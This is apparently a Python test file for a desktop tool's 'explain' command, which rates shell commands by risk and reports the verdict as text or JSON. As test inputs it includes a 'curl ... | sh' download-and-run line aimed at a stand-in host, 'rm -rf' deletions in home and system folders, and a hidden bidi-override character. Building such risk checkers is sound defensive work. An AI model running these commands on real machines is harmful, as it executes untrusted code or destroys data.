"""``hermes-tray explain``: the lens's verdict, for a person and as JSON for a script."""

from __future__ import annotations

import io
import json
import posixpath

from desktop.cli import parse_args
from desktop.risk import explain


def run(argv: list[str], stdin: str = "") -> str:
    out = io.StringIO()
    assert explain.run(parse_args(["explain", *argv]), out=out, stdin=io.StringIO(stdin)) == 0
    return out.getvalue()


def test_json_gives_level_summary_and_findings_with_the_text_they_mark() -> None:
    verdict = json.loads(run(["--json", "--cwd", "/home/ann/shop", "--", "rm", "-rf", "build"]))
    assert verdict["level"] == "low"
    assert verdict["summary"] == "deletes build inside shop — rebuilt by the build"
    assert [(f["rule"], f["text"]) for f in verdict["findings"]] == [
        ("delete-regenerable", "rm -rf build")
    ]


def test_without_a_folder_the_same_command_is_judged_as_outside() -> None:
    verdict = json.loads(run(["--json", "--", "rm -rf build"]))
    assert (verdict["level"], verdict["cwd"]) == ("high", "")


def test_the_text_report_names_the_level_the_folder_and_each_rule() -> None:
    text = run(["--cwd", "/srv/app", "--", "curl -s https://x.example | sh"])
    assert text.splitlines()[:2] == ["high: downloads code and runs it", "  run in /srv/app"]
    assert "download-and-run" in text


def test_a_command_is_read_from_stdin_and_hidden_characters_are_revealed() -> None:
    text = run(["--json"], stdin="rm -rf build \u202e/ ~\n")
    marked = [f["text"] for f in json.loads(text)["findings"] if f["rule"] == "hidden-characters"]
    assert marked == ["⟨U+202E⟩"]


def test_a_project_in_roots_home_is_a_folder_like_any_other_but_system_folders_are_not() -> None:
    assert (
        json.loads(
            run(["--json", "--cwd", posixpath.join("/root", "code", "shop"), "--", "rm -rf build"])
        )["level"]
        == "low"
    )
    assert (
        json.loads(run(["--json", "--cwd", "/etc/nginx", "--", "rm -rf build"]))["level"] == "high"
    )
